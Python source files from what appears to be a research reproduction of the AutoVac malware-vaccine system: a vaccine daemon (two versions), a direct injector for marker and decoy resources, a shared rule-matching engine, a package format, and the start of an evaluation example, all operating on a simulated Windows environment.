  paper's Conficker deployment.  The daemon re-checks periodically whether
  the machine inputs changed (``refresh()``).
* **partial-static** identifiers: runtime API interception; any resolved
  identifier matching the vaccine regex gets the predefined (failure/success)
  result.
* **static enforce-failure** on resources without lockable ACL semantics
  (mutex, window, service, process): runtime interception by exact name.
* **temporal API policies**: steady-state deny rules from a
  :class:`~repro.core.policy.TemporalApiPolicy` enforce failure on the
  malware's post-boundary resource acquisitions.

Matching itself lives in the shared :class:`~repro.delivery.engine.RuleEngine`
— the daemon only *builds* rules (slice replay, marker injection) and keeps
the hook-overhead accounting; the clinic and campaign consult the same
engine, so interception semantics cannot drift between consumers again.
"""

from __future__ import annotations

import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, List, Optional, Tuple

if TYPE_CHECKING:  # pragma: no cover - typing only
    from ..core.policy import TemporalApiPolicy
    from .injection import DirectInjector

from .. import obs
from ..core.vaccine import IdentifierKind, Mechanism, Vaccine
from ..taint.replay import SliceReplayError, replay_slice
from ..tracing.events import ApiCallEvent
from ..winapi.dispatcher import Interception
from ..winapi.labels import ApiDef
from ..winenv.environment import SystemEnvironment
from .engine import CompiledRule, RuleEngine


@dataclass
class VaccineDaemon:
    """Resident vaccine service for one machine.

    Register with ``install(environment)``; the daemon adds itself to the
    environment's global interceptors so every process dispatcher consults it.
    """

    vaccines: List[Vaccine] = field(default_factory=list)
    #: Temporal policies enforced alongside the vaccines (deny rules only).
    policies: List["TemporalApiPolicy"] = field(default_factory=list)
    #: The shared matching structure; rebuilt on install/refresh.
    engine: RuleEngine = field(default_factory=RuleEngine)
    #: Per-host identifiers computed from slices at install time.
    computed_identifiers: Dict[str, str] = field(default_factory=dict)
    #: Interception counters (perf-overhead bench, §VI-F).
    calls_seen: int = 0
    calls_matched: int = 0
    #: Policy-rule hits within ``calls_matched`` (violation accounting).
    policy_violations: int = 0
    #: Total wall seconds spent inside :meth:`intercept` — the hook-overhead
    #: numerator for the paper's <4.5% claim.
    seconds_intercepting: float = 0.0
    environment: Optional[SystemEnvironment] = None
    #: Identity fingerprint used to detect input changes on refresh.
    _identity_seen: Optional[tuple] = None
    #: Live simulate-presence markers, one injector per slice-derived
    #: vaccine (keyed by its observed identifier) — so a refresh that
    #: recomputes the identifier can retract the stale marker.
    _marker_injectors: Dict[Tuple[object, str], "DirectInjector"] = field(
        default_factory=dict
    )

    @property
    def rules(self) -> List[CompiledRule]:
        """Active interception rules (compiled, insertion order)."""
        return self.engine.rules

    def install(self, environment: SystemEnvironment) -> None:
        self.environment = environment
        self._identity_seen = self._fingerprint(environment)
        self.engine = RuleEngine()
        for vaccine in self.vaccines:
            self._activate(vaccine, environment)
        for policy in self.policies:
            self.engine.add_policy(policy)
        if self not in environment.global_interceptors:
            environment.global_interceptors.append(self)

    def add(self, vaccine: Vaccine) -> None:
        self.vaccines.append(vaccine)
        if self.environment is not None:
            self._activate(vaccine, self.environment)

    def add_policy(self, policy: "TemporalApiPolicy") -> None:
        self.policies.append(policy)
        if self.environment is not None:
            self.engine.add_policy(policy)

    def uninstall(self) -> None:
        """Detach from the environment and drop all interception rules."""
        if self.environment is not None and self in self.environment.global_interceptors:
            self.environment.global_interceptors.remove(self)
        self.engine = RuleEngine()

    def refresh(self) -> bool:
        """Periodic check: regenerate slice-derived vaccines if the machine
        inputs (identity) changed.  Returns True when anything was redone."""
        if self.environment is None:
            return False
        fingerprint = self._fingerprint(self.environment)
        if fingerprint == self._identity_seen:
            return False
        self.install(self.environment)
        return True

    # -- installation ----------------------------------------------------------

    def _activate(self, vaccine: Vaccine, environment: SystemEnvironment) -> None:
        from .injection import DirectInjector, InjectionError

        kind = vaccine.identifier_kind
        if kind is IdentifierKind.ALGORITHM_DETERMINISTIC and vaccine.slice is not None:
            try:
                identifier = replay_slice(vaccine.slice, environment.clone())
            except SliceReplayError:
                identifier = vaccine.identifier  # fall back to observed value
            self.computed_identifiers[vaccine.identifier] = identifier
            if vaccine.mechanism is Mechanism.SIMULATE_PRESENCE:
                key = (vaccine.resource_type, vaccine.identifier)
                previous = self._marker_injectors.get(key)
                if previous is not None:
                    stale = [r.identifier for r in previous.records]
                    if identifier not in stale:
                        # The machine inputs changed the computed name:
                        # retract the old marker before planting the new
                        # one, or refreshes would accumulate stale markers.
                        previous.uninstall_all()
                        self._marker_injectors.pop(key, None)
                    # Same name recomputed: the live marker stays; the
                    # inject below is an idempotent re-create.
                try:
                    injector = DirectInjector(environment)
                    injector.inject(vaccine, identifier=identifier)
                    self._marker_injectors[key] = injector
                    return
                except InjectionError:
                    pass
            self.engine.add_vaccine(vaccine, identifier=identifier)
            return

        # Partial-static patterns and static identifiers that reached the
        # daemon (non-lockable resources) compile as-is.
        self.engine.add_vaccine(vaccine)

    # -- interception (hot path) ---------------------------------------------

    def intercept(self, apidef: ApiDef, event: ApiCallEvent) -> Interception:
        started = time.perf_counter()
        try:
            return self._intercept(event)
        finally:
            elapsed = time.perf_counter() - started
            self.seconds_intercepting += elapsed
            if obs.prof.enabled:
                obs.prof.add("rules;daemon", elapsed)

    def _intercept(self, event: ApiCallEvent) -> Interception:
        self.calls_seen += 1
        verdict, rule = self.engine.decide(event)
        if rule is None:
            return Interception.PASS
        self.calls_matched += 1
        if obs.metrics.enabled:
            obs.metrics.counter(
                "daemon.calls_matched",
                resource=event.resource_type.value,
                mechanism=rule.mechanism.value,
            ).inc()
        if rule.origin == "policy":
            self.policy_violations += 1
            flight = obs.flight
            if flight.enabled:
                flight.record(
                    "policy.violation",
                    causes=(),
                    api=event.api,
                    resource=event.resource_type.value,
                    identifier=event.identifier,
                    operation=event.operation.value if event.operation else None,
                    rule=rule.describe(),
                )
        return verdict

    def flush_metrics(self) -> None:
        """Publish cumulative hook accounting into the metrics registry.

        Kept out of the per-call path: two plain attribute adds per
        intercept, one registry write when somebody wants the numbers.
        """
        obs.metrics.gauge("daemon.calls_seen").set(self.calls_seen)
        obs.metrics.gauge("daemon.calls_matched_total").set(self.calls_matched)
        obs.metrics.gauge("daemon.policy_violations").set(self.policy_violations)
        obs.metrics.gauge("daemon.hook_seconds").set(self.seconds_intercepting)
        obs.metrics.gauge("daemon.rules_active").set(len(self.engine))

    @staticmethod
    def _fingerprint(environment: SystemEnvironment) -> tuple:
        identity = environment.identity
        return (identity.computer_name, identity.user_name, identity.volume_serial)
