"""Vaccine daemon — resident deployment (paper §V).

Handles everything direct injection cannot:

* **algorithm-deterministic** identifiers: on install the daemon replays the
  generation slice against *this* host, obtains the concrete identifier, and
  (for simulate-presence vaccines) direct-injects the computed marker — the
  paper's Conficker deployment.  The daemon re-checks periodically whether
  the machine inputs changed (``refresh()``).
* **partial-static** identifiers: runtime API interception; any resolved
  identifier matching the vaccine regex gets the predefined (failure/success)
  result.
* **static enforce-failure** on resources without lockable ACL semantics
  (mutex, window, service, process): runtime interception by exact name.
"""

from __future__ import annotations

import re
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, List, Optional, Tuple

if TYPE_CHECKING:  # pragma: no cover - typing only
    from .injection import DirectInjector

from .. import obs
from ..core.vaccine import IdentifierKind, Mechanism, Vaccine, normalize_identifier
from ..taint.replay import SliceReplayError, replay_slice
from ..tracing.events import ApiCallEvent
from ..winapi.dispatcher import Interception
from ..winapi.labels import ApiDef
from ..winenv.environment import SystemEnvironment
from ..winenv.objects import Operation


@dataclass
class _Rule:
    """One active interception rule."""

    vaccine: Vaccine
    mechanism: Mechanism
    exact: Optional[str] = None
    pattern: Optional["re.Pattern[str]"] = None

    def matches(self, identifier: str) -> bool:
        if self.exact is not None and identifier == self.exact:
            return True
        # fullmatch, not match: a partial-static pattern like ``[a-z]{8}``
        # describes the whole identifier — prefix matching would intercept
        # every benign resource that merely starts like the vaccine's.
        return (
            self.pattern is not None
            and self.pattern.fullmatch(identifier) is not None
        )


@dataclass
class VaccineDaemon:
    """Resident vaccine service for one machine.

    Register with ``install(environment)``; the daemon adds itself to the
    environment's global interceptors so every process dispatcher consults it.
    """

    vaccines: List[Vaccine] = field(default_factory=list)
    rules: List[_Rule] = field(default_factory=list)
    #: Per-host identifiers computed from slices at install time.
    computed_identifiers: Dict[str, str] = field(default_factory=dict)
    #: Interception counters (perf-overhead bench, §VI-F).
    calls_seen: int = 0
    calls_matched: int = 0
    #: Total wall seconds spent inside :meth:`intercept` — the hook-overhead
    #: numerator for the paper's <4.5% claim.
    seconds_intercepting: float = 0.0
    environment: Optional[SystemEnvironment] = None
    #: Identity fingerprint used to detect input changes on refresh.
    _identity_seen: Optional[tuple] = None
    #: Live simulate-presence markers, one injector per slice-derived
    #: vaccine (keyed by its observed identifier) — so a refresh that
    #: recomputes the identifier can retract the stale marker.
    _marker_injectors: Dict[Tuple[object, str], "DirectInjector"] = field(
        default_factory=dict
    )

    def install(self, environment: SystemEnvironment) -> None:
        self.environment = environment
        self._identity_seen = self._fingerprint(environment)
        self.rules = []
        for vaccine in self.vaccines:
            self._activate(vaccine, environment)
        if self not in environment.global_interceptors:
            environment.global_interceptors.append(self)

    def add(self, vaccine: Vaccine) -> None:
        self.vaccines.append(vaccine)
        if self.environment is not None:
            self._activate(vaccine, self.environment)

    def uninstall(self) -> None:
        """Detach from the environment and drop all interception rules."""
        if self.environment is not None and self in self.environment.global_interceptors:
            self.environment.global_interceptors.remove(self)
        self.rules = []

    def refresh(self) -> bool:
        """Periodic check: regenerate slice-derived vaccines if the machine
        inputs (identity) changed.  Returns True when anything was redone."""
        if self.environment is None:
            return False
        fingerprint = self._fingerprint(self.environment)
        if fingerprint == self._identity_seen:
            return False
        self.install(self.environment)
        return True

    # -- installation ----------------------------------------------------------

    def _activate(self, vaccine: Vaccine, environment: SystemEnvironment) -> None:
        from .injection import DirectInjector, InjectionError

        kind = vaccine.identifier_kind
        if kind is IdentifierKind.ALGORITHM_DETERMINISTIC and vaccine.slice is not None:
            try:
                identifier = replay_slice(vaccine.slice, environment.clone())
            except SliceReplayError:
                identifier = vaccine.identifier  # fall back to observed value
            self.computed_identifiers[vaccine.identifier] = identifier
            if vaccine.mechanism is Mechanism.SIMULATE_PRESENCE:
                key = (vaccine.resource_type, vaccine.identifier)
                previous = self._marker_injectors.get(key)
                if previous is not None:
                    stale = [r.identifier for r in previous.records]
                    if identifier not in stale:
                        # The machine inputs changed the computed name:
                        # retract the old marker before planting the new
                        # one, or refreshes would accumulate stale markers.
                        previous.uninstall_all()
                        self._marker_injectors.pop(key, None)
                    # Same name recomputed: the live marker stays; the
                    # inject below is an idempotent re-create.
                try:
                    injector = DirectInjector(environment)
                    injector.inject(vaccine, identifier=identifier)
                    self._marker_injectors[key] = injector
                    return
                except InjectionError:
                    pass
            self.rules.append(_Rule(vaccine, vaccine.mechanism, exact=identifier))
            return

        if kind is IdentifierKind.PARTIAL_STATIC and vaccine.pattern:
            self.rules.append(
                _Rule(vaccine, vaccine.mechanism, pattern=re.compile(vaccine.pattern))
            )
            return

        # Static identifiers that reached the daemon (non-lockable resources).
        self.rules.append(_Rule(vaccine, vaccine.mechanism, exact=vaccine.identifier))

    # -- interception (hot path) ---------------------------------------------

    def intercept(self, apidef: ApiDef, event: ApiCallEvent) -> Interception:
        started = time.perf_counter()
        try:
            return self._intercept(event)
        finally:
            self.seconds_intercepting += time.perf_counter() - started

    def _intercept(self, event: ApiCallEvent) -> Interception:
        self.calls_seen += 1
        if event.identifier is None or event.resource_type is None:
            return Interception.PASS
        identifier = normalize_identifier(event.resource_type, event.identifier)
        for rule in self.rules:
            if rule.vaccine.resource_type is not event.resource_type:
                continue
            if not rule.matches(identifier):
                continue
            self.calls_matched += 1
            if obs.metrics.enabled:
                obs.metrics.counter(
                    "daemon.calls_matched",
                    resource=event.resource_type.value,
                    mechanism=rule.mechanism.value,
                ).inc()
            if rule.mechanism is Mechanism.ENFORCE_FAILURE:
                return Interception.FORCE_FAIL
            if event.operation is Operation.CREATE:
                return Interception.FORCE_FAIL_EXISTS
            return Interception.FORCE_SUCCESS
        return Interception.PASS

    def flush_metrics(self) -> None:
        """Publish cumulative hook accounting into the metrics registry.

        Kept out of the per-call path: two plain attribute adds per
        intercept, one registry write when somebody wants the numbers.
        """
        obs.metrics.gauge("daemon.calls_seen").set(self.calls_seen)
        obs.metrics.gauge("daemon.calls_matched_total").set(self.calls_matched)
        obs.metrics.gauge("daemon.hook_seconds").set(self.seconds_intercepting)
        obs.metrics.gauge("daemon.rules_active").set(len(self.rules))

    @staticmethod
    def _fingerprint(environment: SystemEnvironment) -> tuple:
        identity = environment.identity
        return (identity.computer_name, identity.user_name, identity.volume_serial)
