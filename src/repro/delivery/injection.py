"""Direct injection — one-time vaccine deployment (paper §V).

For *simulate presence* vaccines the resource is created (owned by a super
user, locked read-only so malware cannot remove it); for *enforce failure*
vaccines on files/registry a locked decoy is planted — or, when the malware
only needed to read an existing resource, the resource is removed ("we remove
the static file (or registry), or vice versa").
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import List

from ..winenv.acl import Acl, IntegrityLevel, vaccine_acl
from ..winenv.environment import SystemEnvironment
from ..winenv.objects import Operation, ResourceType
from ..core.vaccine import Mechanism, Vaccine

#: ACL for enforce-failure decoys: even READ denied below SYSTEM.
_NO_ACCESS = Acl(owner_level=IntegrityLevel.SYSTEM, everyone=frozenset())


class InjectionError(Exception):
    """The vaccine cannot be deployed via direct injection."""


@dataclass
class InjectionRecord:
    """What the injector did, for audit/uninstall."""

    vaccine: Vaccine
    action: str
    identifier: str


@dataclass
class DirectInjector:
    """Applies direct-injection vaccines to a SystemEnvironment."""

    environment: SystemEnvironment
    records: List[InjectionRecord] = field(default_factory=list)

    def inject(self, vaccine: Vaccine, identifier: str = None) -> InjectionRecord:
        """Deploy one vaccine; ``identifier`` overrides the vaccine's (used
        when a daemon replayed a slice and computed the per-host name)."""
        name = identifier if identifier is not None else vaccine.identifier
        if vaccine.mechanism is Mechanism.SIMULATE_PRESENCE:
            record = self._create_marker(vaccine, name)
        else:
            record = self._enforce_failure(vaccine, name)
        self.records.append(record)
        return record

    def inject_all(self, vaccines) -> List[InjectionRecord]:
        return [self.inject(v) for v in vaccines]

    def uninstall_all(self) -> int:
        """Best-effort removal of everything this injector planted (for
        decommissioning a vaccine pack); returns the number of artifacts
        removed."""
        removed = 0
        env = self.environment
        for record in reversed(self.records):
            rtype = record.vaccine.resource_type
            name = record.identifier
            try:
                if record.action in ("created-marker", "planted-locked-decoy"):
                    if rtype is ResourceType.MUTEX:
                        env.mutexes.release(name)
                    elif rtype is ResourceType.FILE and env.filesystem.exists(name):
                        env.filesystem.delete(name, IntegrityLevel.SYSTEM)
                    elif rtype is ResourceType.REGISTRY and env.registry.exists(name):
                        env.registry.delete_key(name, IntegrityLevel.SYSTEM)
                    elif rtype is ResourceType.WINDOW:
                        env.windows.destroy(name)
                    elif rtype is ResourceType.LIBRARY:
                        env.libraries.remove(name)
                    elif rtype is ResourceType.SERVICE and env.services.exists(name):
                        env.services.delete(name, IntegrityLevel.SYSTEM)
                    removed += 1
                elif record.action == "blocked-library":
                    lib = env.libraries.lookup(name)
                    if lib is not None:
                        lib.blocked = False
                    removed += 1
                # "removed-resource" is not restorable (content unknown).
            except Exception:  # pragma: no cover - best effort by contract
                continue
        self.records = []
        return removed

    # -- simulate presence --------------------------------------------------

    def _create_marker(self, vaccine: Vaccine, name: str) -> InjectionRecord:
        env = self.environment
        rtype = vaccine.resource_type
        acl = vaccine_acl()
        if rtype is ResourceType.MUTEX:
            env.mutexes.create(name, IntegrityLevel.SYSTEM, acl=acl)
        elif rtype is ResourceType.FILE:
            env.filesystem.create(
                name, IntegrityLevel.SYSTEM, content=b"", exist_ok=True, acl=acl
            )
        elif rtype is ResourceType.REGISTRY:
            key = env.registry.create_key(name, IntegrityLevel.SYSTEM)
            key.acl = acl
        elif rtype is ResourceType.WINDOW:
            env.windows.register(name, title="vaccine", acl=acl)
        elif rtype is ResourceType.LIBRARY:
            env.libraries.register(name, acl=acl)
        elif rtype is ResourceType.SERVICE:
            if not env.services.exists(name):
                svc = env.services.create(
                    name, "c:\\windows\\system32\\vaccine.exe", IntegrityLevel.SYSTEM
                )
                svc.acl = acl
        else:
            raise InjectionError(f"cannot inject presence of {rtype.value}")
        return InjectionRecord(vaccine, "created-marker", name)

    # -- enforce failure ------------------------------------------------------

    def _enforce_failure(self, vaccine: Vaccine, name: str) -> InjectionRecord:
        env = self.environment
        rtype = vaccine.resource_type
        mutating_ops = {Operation.CREATE, Operation.WRITE, Operation.DELETE}
        wants_mutation = bool(vaccine.operations & mutating_ops)

        if rtype is ResourceType.FILE:
            node = env.filesystem.lookup(name)
            if not wants_mutation and node is not None:
                env.filesystem.delete(name, IntegrityLevel.SYSTEM)
                return InjectionRecord(vaccine, "removed-resource", name)
            acl = vaccine_acl() if wants_mutation else _NO_ACCESS
            env.filesystem.create(
                name, IntegrityLevel.SYSTEM, content=b"", exist_ok=True, acl=acl
            )
            env.filesystem.set_acl(name, acl)
            return InjectionRecord(vaccine, "planted-locked-decoy", name)

        if rtype is ResourceType.REGISTRY:
            key = env.registry.lookup(name)
            if not wants_mutation and key is not None:
                env.registry.delete_key(name, IntegrityLevel.SYSTEM)
                return InjectionRecord(vaccine, "removed-resource", name)
            acl = vaccine_acl() if wants_mutation else _NO_ACCESS
            created = env.registry.create_key(name, IntegrityLevel.SYSTEM)
            created.acl = acl
            return InjectionRecord(vaccine, "planted-locked-decoy", name)

        if rtype is ResourceType.LIBRARY:
            env.libraries.block(name)
            return InjectionRecord(vaccine, "blocked-library", name)

        raise InjectionError(
            f"enforce-failure on {rtype.value} requires the vaccine daemon"
        )
