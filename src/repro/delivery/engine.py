"""Unified enforcement engine — one matching structure for every consumer.

Vaccine matching used to live in three places (the daemon's ``_Rule``, the
clinic's ``_matches``, campaign fleet accounting) and they drifted: PR 5
fixed prefix-vs-fullmatch in the daemon only.  :class:`RuleEngine` is now
the *only* implementation of "does this resource access hit a rule":

* an **exact map** keyed by ``(resource_type, normalized identifier)`` for
  static and computed identifiers — O(1) on the daemon hot path;
* a per-resource-type **compiled fullmatch alternation** over every
  pattern rule — one regex test answers "could any pattern match" before
  the (rare) per-rule scan that attributes the hit.

The engine compiles two rule sources into that structure:

* **vaccine rules** (:meth:`add_vaccine`) — the daemon's interception
  rules and the clinic's attribution rules are the same objects now;
* **policy deny rules** (:meth:`add_policy`) — a
  :class:`~repro.core.policy.TemporalApiPolicy`'s steady-state denials,
  operation-restricted and enforced as failures.

Matching semantics are those the daemon always had: first rule in
insertion order wins, exact before nothing, patterns are ``fullmatch``
(a partial-static pattern describes the *whole* identifier — prefix
matching would intercept every benign resource that merely starts like
the vaccine's).
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Dict, FrozenSet, List, Optional, Sequence, Tuple

from ..core.vaccine import IdentifierKind, Mechanism, Vaccine, normalize_identifier
from ..winapi.dispatcher import Interception
from ..winenv.objects import Operation, ResourceType

if TYPE_CHECKING:  # pragma: no cover - annotations only
    from ..core.policy import PolicyRule, TemporalApiPolicy
    from ..tracing.events import ApiCallEvent


@dataclass(frozen=True)
class CompiledRule:
    """One enforcement rule, compiled: where it came from, what it matches,
    and what happens on a hit."""

    #: The originating artifact: a :class:`Vaccine` or a policy's deny rule.
    source: object
    #: ``"vaccine"`` or ``"policy"`` — consumers key metrics/flight on this.
    origin: str
    resource_type: ResourceType
    mechanism: Mechanism
    index: int
    exact: Optional[str] = None
    pattern: Optional[str] = None
    #: Empty = any operation (vaccine rules); policy denials are restricted.
    operations: FrozenSet[Operation] = frozenset()
    compiled: Optional["re.Pattern[str]"] = None

    def allows_operation(self, operation: Optional[Operation]) -> bool:
        return not self.operations or operation is None or operation in self.operations

    def matches(self, identifier: str, operation: Optional[Operation] = None) -> bool:
        """Identifier must be normalized already (see ``RuleEngine.match``)."""
        if not self.allows_operation(operation):
            return False
        if self.exact is not None and identifier == self.exact:
            return True
        return self.compiled is not None and self.compiled.fullmatch(identifier) is not None

    def describe(self) -> str:
        what = self.exact if self.exact is not None else f"/{self.pattern}/"
        ops = ",".join(sorted(o.value for o in self.operations)) or "any"
        return (
            f"{self.origin} {self.resource_type.value}:{what!r} "
            f"[{ops}] -> {self.mechanism.value}"
        )


@dataclass
class RuleEngine:
    """The shared matching structure.  Build with :meth:`add_vaccine` /
    :meth:`add_policy` (or :meth:`compile`), query with :meth:`match` /
    :meth:`match_all` / :meth:`decide`."""

    rules: List[CompiledRule] = field(default_factory=list)
    _exact: Dict[Tuple[ResourceType, str], List[CompiledRule]] = field(
        default_factory=dict, repr=False
    )
    _patterns: Dict[ResourceType, List[CompiledRule]] = field(
        default_factory=dict, repr=False
    )
    #: Per-resource-type fullmatch alternation over every pattern rule —
    #: the fast "could anything match" gate before the attributing scan.
    _alternation: Dict[ResourceType, "re.Pattern[str]"] = field(
        default_factory=dict, repr=False
    )

    # -- construction ------------------------------------------------------

    @classmethod
    def compile(
        cls,
        vaccines: Sequence[Vaccine] = (),
        policies: Sequence["TemporalApiPolicy"] = (),
    ) -> "RuleEngine":
        engine = cls()
        for vaccine in vaccines:
            engine.add_vaccine(vaccine)
        for policy in policies:
            engine.add_policy(policy)
        return engine

    def add_rule(
        self,
        source: object,
        origin: str,
        resource_type: ResourceType,
        mechanism: Mechanism,
        exact: Optional[str] = None,
        pattern: Optional[str] = None,
        operations: FrozenSet[Operation] = frozenset(),
    ) -> CompiledRule:
        rule = CompiledRule(
            source=source,
            origin=origin,
            resource_type=resource_type,
            mechanism=mechanism,
            index=len(self.rules),
            exact=(
                normalize_identifier(resource_type, exact) if exact is not None else None
            ),
            pattern=pattern,
            operations=operations,
            compiled=re.compile(pattern) if pattern else None,
        )
        self.rules.append(rule)
        if rule.exact is not None:
            self._exact.setdefault((resource_type, rule.exact), []).append(rule)
        if rule.compiled is not None:
            self._patterns.setdefault(resource_type, []).append(rule)
            self._recompile_alternation(resource_type)
        return rule

    def add_vaccine(
        self, vaccine: Vaccine, identifier: Optional[str] = None
    ) -> CompiledRule:
        """Compile one vaccine.  ``identifier`` overrides the observed one —
        the daemon passes the slice-computed per-host identifier for
        algorithm-deterministic vaccines."""
        if (
            vaccine.identifier_kind is IdentifierKind.PARTIAL_STATIC
            and vaccine.pattern
            and identifier is None
        ):
            return self.add_rule(
                vaccine,
                "vaccine",
                vaccine.resource_type,
                vaccine.mechanism,
                pattern=vaccine.pattern,
            )
        return self.add_rule(
            vaccine,
            "vaccine",
            vaccine.resource_type,
            vaccine.mechanism,
            exact=identifier if identifier is not None else vaccine.identifier,
        )

    def add_policy(self, policy: "TemporalApiPolicy") -> List[CompiledRule]:
        """Compile a temporal policy's steady-state deny rules.  Denials
        enforce failure and stay restricted to the acquisition operations
        the policy observed — the init phase is untouched by construction
        (a denied identifier never appears in the init-phase allowlist)."""
        return [
            self.add_rule(
                deny,
                "policy",
                deny.resource_type,
                Mechanism.ENFORCE_FAILURE,
                exact=deny.identifier,
                operations=deny.operations,
            )
            for deny in policy.deny
        ]

    def _recompile_alternation(self, resource_type: ResourceType) -> None:
        sources = [r.pattern for r in self._patterns[resource_type] if r.pattern]
        try:
            self._alternation[resource_type] = re.compile(
                "|".join(f"(?:{s})" for s in sources)
            )
        except re.error:  # pragma: no cover - individual patterns compiled above
            self._alternation.pop(resource_type, None)

    # -- matching (hot path) ----------------------------------------------

    def match(
        self,
        resource_type: Optional[ResourceType],
        identifier: Optional[str],
        operation: Optional[Operation] = None,
    ) -> Optional[CompiledRule]:
        """First matching rule in insertion order, or None.  ``identifier``
        is normalized here — callers pass the raw event identifier."""
        if resource_type is None or identifier is None:
            return None
        normalized = normalize_identifier(resource_type, identifier)
        best: Optional[CompiledRule] = None
        for rule in self._exact.get((resource_type, normalized), ()):
            if rule.allows_operation(operation):
                best = rule
                break
        alternation = self._alternation.get(resource_type)
        if alternation is not None and alternation.fullmatch(normalized) is not None:
            for rule in self._patterns[resource_type]:
                if best is not None and rule.index >= best.index:
                    break
                if rule.matches(normalized, operation):
                    return rule
        return best

    def match_all(
        self,
        resource_type: Optional[ResourceType],
        identifier: Optional[str],
        operation: Optional[Operation] = None,
    ) -> List[CompiledRule]:
        """Every matching rule, insertion order — clinic attribution."""
        if resource_type is None or identifier is None:
            return []
        normalized = normalize_identifier(resource_type, identifier)
        hits = list(self._exact.get((resource_type, normalized), ()))
        alternation = self._alternation.get(resource_type)
        if alternation is not None and alternation.fullmatch(normalized) is not None:
            hits.extend(
                r for r in self._patterns[resource_type] if r.matches(normalized)
            )
        hits = [r for r in hits if r.allows_operation(operation)]
        hits.sort(key=lambda r: r.index)
        return hits

    def decide(self, event: "ApiCallEvent") -> Tuple[Interception, Optional[CompiledRule]]:
        """The one interception semantics every consumer shares:
        enforce-failure rules force the call to fail; simulate-presence
        rules make a CREATE fail-as-exists and anything else succeed."""
        rule = self.match(event.resource_type, event.identifier, event.operation)
        if rule is None:
            return Interception.PASS, None
        return self.verdict(rule, event.operation), rule

    @staticmethod
    def verdict(rule: CompiledRule, operation: Optional[Operation]) -> Interception:
        if rule.mechanism is Mechanism.ENFORCE_FAILURE:
            return Interception.FORCE_FAIL
        if operation is Operation.CREATE:
            return Interception.FORCE_FAIL_EXISTS
        return Interception.FORCE_SUCCESS

    # -- introspection -----------------------------------------------------

    def __len__(self) -> int:
        return len(self.rules)

    def rules_from(self, origin: str) -> List[CompiledRule]:
        return [r for r in self.rules if r.origin == origin]


__all__ = ["CompiledRule", "RuleEngine"]
