"""Vaccine package format: the artifact shipped to end hosts.

A package bundles the vaccines extracted for one or more malware samples with
provenance metadata, serializes to JSON, and deploys onto a machine — direct
injections applied once, daemon-needing vaccines handed to a
:class:`~repro.delivery.daemon.VaccineDaemon`.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING, List, Optional, Sequence, Tuple

if TYPE_CHECKING:  # pragma: no cover - typing only
    from ..core.policy import TemporalApiPolicy

from ..core.vaccine import DeliveryKind, Vaccine
from ..winenv.environment import SystemEnvironment
from .daemon import VaccineDaemon
from .injection import DirectInjector, InjectionError, InjectionRecord

FORMAT_VERSION = 1


@dataclass
class VaccinePackage:
    """A signed-off set of vaccines ready for distribution."""

    vaccines: List[Vaccine] = field(default_factory=list)
    generator: str = "autovac-repro"
    description: str = ""

    def __len__(self) -> int:
        return len(self.vaccines)

    # -- serialization ------------------------------------------------------

    def to_json(self, indent: int = 2) -> str:
        return json.dumps(
            {
                "format_version": FORMAT_VERSION,
                "generator": self.generator,
                "description": self.description,
                "vaccines": [v.to_dict() for v in self.vaccines],
            },
            indent=indent,
        )

    @staticmethod
    def from_json(text: str) -> "VaccinePackage":
        data = json.loads(text)
        version = data.get("format_version")
        if version != FORMAT_VERSION:
            raise ValueError(f"unsupported package version {version!r}")
        return VaccinePackage(
            vaccines=[Vaccine.from_dict(v) for v in data.get("vaccines", [])],
            generator=data.get("generator", ""),
            description=data.get("description", ""),
        )

    def save(self, path) -> None:
        Path(path).write_text(self.to_json())

    @staticmethod
    def load(path) -> "VaccinePackage":
        return VaccinePackage.from_json(Path(path).read_text())


@dataclass
class Deployment:
    """Outcome of deploying a package onto one machine."""

    injections: List[InjectionRecord] = field(default_factory=list)
    daemon: Optional[VaccineDaemon] = None
    failures: List[Tuple[Vaccine, str]] = field(default_factory=list)

    @property
    def daemon_needed(self) -> bool:
        return self.daemon is not None and bool(self.daemon.vaccines)


def deploy(
    package: VaccinePackage,
    environment: SystemEnvironment,
    policies: Sequence["TemporalApiPolicy"] = (),
) -> Deployment:
    """Deploy every vaccine in ``package`` onto ``environment``.  Temporal
    policies, when given, ride along in the daemon (their deny rules join
    the vaccines' in the shared rule engine)."""
    deployment = Deployment()
    injector = DirectInjector(environment)
    daemon_vaccines: List[Vaccine] = []
    for vaccine in package.vaccines:
        if vaccine.delivery is DeliveryKind.DIRECT_INJECTION:
            try:
                deployment.injections.append(injector.inject(vaccine))
            except InjectionError as exc:
                deployment.failures.append((vaccine, str(exc)))
        else:
            daemon_vaccines.append(vaccine)
    if daemon_vaccines or policies:
        daemon = VaccineDaemon(vaccines=daemon_vaccines, policies=list(policies))
        daemon.install(environment)
        deployment.daemon = daemon
    return deployment
