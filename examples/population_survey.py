"""Population-scale survey: reproduce the paper's evaluation tables in small.

Generates a seeded corpus with the paper's Table-II category mix, runs the
full pipeline over it, and prints Figure-3 / Table-IV / Table-V style
summaries.  Scale with ``REPRO_POPULATION`` (default 150 samples).

Run:  python examples/population_survey.py
"""

import os

from repro import AutoVac
from repro.corpus import GeneratorConfig, category_distribution, generate_population


def print_table(title: str, table: dict) -> None:
    print(f"\n{title}")
    columns = sorted({c for row in table.values() for c in row})
    header = "  " + "resource".ljust(12) + "".join(c[:14].rjust(16) for c in columns) + "   total"
    print(header)
    for name in sorted(table):
        row = table[name]
        cells = "".join(str(row.get(c, 0)).rjust(16) for c in columns)
        print("  " + name.ljust(12) + cells + str(sum(row.values())).rjust(8))


def main() -> None:
    size = int(os.environ.get("REPRO_POPULATION", "150"))
    samples = generate_population(GeneratorConfig(size=size, seed=42))
    print(f"corpus: {size} samples")
    for category, count in sorted(category_distribution(samples).items(),
                                  key=lambda kv: -kv[1]):
        print(f"  {category:12s} {count:4d}  ({count / size:.1%})")

    autovac = AutoVac()
    result = autovac.analyze_population([s.program for s in samples])

    occ = result.occurrence_stats()
    print(f"\nPhase I: {occ['total']} resource-API occurrences tracked, "
          f"{occ['influential']} ({occ['influential'] / max(occ['total'], 1):.1%}) "
          f"influence control flow")

    print("\nFigure-3 style: resource x operation access counts")
    for rtype, ops in sorted(result.resource_operation_stats().items()):
        mix = ", ".join(f"{op}={n}" for op, n in sorted(ops.items()))
